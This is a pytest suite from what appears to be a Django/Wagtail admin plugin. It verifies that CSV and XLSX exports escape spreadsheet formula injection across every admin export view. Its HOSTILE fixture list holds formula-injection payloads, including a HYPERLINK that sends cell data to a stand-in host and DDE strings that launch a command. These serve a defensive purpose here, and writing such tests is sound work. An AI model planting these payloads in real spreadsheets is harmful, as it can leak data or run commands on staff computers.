"""CSV/XLSX exports of the admin lists cannot carry formulas (#15, "formula injection").

A participant's name is typed by whoever registers; it ends up in the Anmeldungen export
that staff open in Excel or LibreOffice. Cells starting with = + - @ (or tab, CR, LF) are
written with a leading single quote in CSV and as plain strings in XLSX. Every export view
registered in the admin (modeladmin lists and snippet lists, also those added later) is
found from the URL resolver and must use the escaping mixin.
"""

from __future__ import annotations

import csv
import inspect
import io
import zipfile

import pytest
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail_modeladmin.options import ModelAdmin

from tests.factories import enrollment_in, make_user
from tests.helpers import walk_urls
from tests.security_figures import note
from workpro_plugin.backoffice.export import SafeSpreadsheetExportMixin, escape_formula
from workpro_plugin.models import Enrollment

pytestmark = pytest.mark.django_db
S = Enrollment.Status
LIST = "/admin/workpro_plugin/enrollment/"

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A2;"Klick")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+49 151 1234567",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1dSUM(1)",
]


def test_escape_formula_prefixes_only_formula_starts():
    for value in [*HOSTILE, "-1+2", "-A1", "+1", "--1", "@A1", "-1,5+1"]:
        assert escape_formula(value) == "'" + value
    for value in ("Muster", "Anna-Lena", "a=b", " =x", "", "KITA-1", "'=schon", "-", "-12", "-1.5", 5, -5, None):
        assert escape_formula(value) == value


def _csv_rows(response) -> list[list[str]]:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(content.decode("utf-8"), newline="")))


@pytest.fixture
def hostile(world, client):
    """One enrollment per hostile name at the KiTa, each with its own account holder."""
    for index, name in enumerate(HOSTILE):
        holder = make_user(f"eltern{index}@example.org", first_name=name, last_name="Muster")
        enrollment_in(S.BEWERBER, offer=world.offer, institution=world.kita, holder=holder)
    # An address may start with "=" too ("=x@example.org" is valid): the account holder column.
    holder = make_user("=cmd@example.org", first_name="Eva", last_name="Gleich")
    enrollment_in(S.BEWERBER, offer=world.offer, institution=world.kita, holder=holder)
    client.force_login(world.staff)
    return world


def test_csv_export_escapes_every_formula_cell(hostile, client):
    response = client.get(LIST + "?export=csv")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = _csv_rows(response)
    header, body = rows[0], rows[1:]
    names = {row[header.index("Teilnehmer")] for row in body}
    expected = {"'" + f"{name} Muster".strip() for name in HOSTILE} | {"Eva Gleich"}  # full_name strips
    assert names == expected
    holders = {row[header.index("Kontoinhaber")] for row in body}
    assert "'=cmd@example.org" in holders
    cells = [cell for row in body for cell in row]
    dangerous = [cell for cell in cells if cell[:1] in "=+-@\t\r\n\uff1d" and cell != "-"]  # "-": empty
    assert dangerous == []
    note("export: hostile cells escaped in CSV", len([c for c in cells if c.startswith("'")]))
    assert len([c for c in cells if c.startswith("'")]) == len(HOSTILE) + 1


def test_xlsx_export_stores_formula_text_as_strings(hostile, client):
    from openpyxl import load_workbook

    response = client.get(LIST + "?export=xlsx")
    assert response.status_code == 200
    content = b"".join(response.streaming_content)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula element at all
    sheet = load_workbook(io.BytesIO(content)).active
    header = [cell.value for cell in sheet[1]]
    column = header.index("Teilnehmer")
    cells = {row[column].value: row[column].data_type for row in sheet.iter_rows(min_row=2)}
    # The names as they are (a quote in XLSX would be shown as part of the name), typed as text.
    assert set(cells) == {f"{name} Muster".strip() for name in HOSTILE} | {"Eva Gleich"}
    assert set(cells.values()) == {"s"}
    note("export: hostile cells stored as text in XLSX", len(HOSTILE))


# --- every export view of the admin -------------------------------------------------------------

def export_views() -> list[tuple[str, type, type | None]]:
    """(URL name, view class, model) of every admin URL whose view can export a spreadsheet."""
    found = []
    for _name, _route, pattern in walk_urls():
        callback = inspect.unwrap(pattern.callback)
        view_class = getattr(callback, "view_class", None)
        model = (getattr(callback, "view_initkwargs", None) or {}).get("model") or getattr(view_class, "model", None)
        owner = getattr(callback, "__self__", None)
        if view_class is None and isinstance(owner, ModelAdmin) and callback.__name__ == "index_view":
            view_class, model = owner.index_view_class, owner.model
        if view_class is not None and issubclass(view_class, SpreadsheetExportMixin):
            found.append((pattern.name or repr(pattern), view_class, model))
    return found


def _is_workpro(view_class, model) -> bool:
    return view_class.__module__.startswith("workpro_plugin") or (
        model is not None and model._meta.app_label == "workpro_plugin")


def test_every_export_view_escapes_formulas():
    """Every WorkPro list that can export (modeladmin or snippet, also one added later) escapes formulas."""
    views = [(name, cls, model) for name, cls, model in export_views() if _is_workpro(cls, model)]
    models = {model._meta.model_name for _, _, model in views}
    assert {"enrollment", "person", "feeschedule"} <= models  # the walk finds modeladmin and snippet lists
    unsafe = sorted(name for name, cls, _ in views if not issubclass(cls, SafeSpreadsheetExportMixin))
    assert unsafe == [], f"export views without formula escaping: {unsafe}"
    for name, cls, _ in views:
        view = cls.__new__(cls)  # the escaping lives in class attributes and methods only
        assert view.preprocess_field_value("name", "=1+1", view.FORMAT_CSV) == "'=1+1", name
        assert view.preprocess_field_value("name", "Muster", view.FORMAT_CSV) == "Muster", name
    note("export: WorkPro list views checked for formula escaping", len(views))
    assert len(views) >= 10


def test_every_workpro_modeladmin_with_list_export_is_escaped():
    from workpro_plugin.backoffice.group import WorkProAdminGroup

    for model_admin in WorkProAdminGroup.items:
        assert issubclass(model_admin.index_view_class, SafeSpreadsheetExportMixin), model_admin.__name__
    assert any(getattr(m, "list_export", None) for m in WorkProAdminGroup.items)
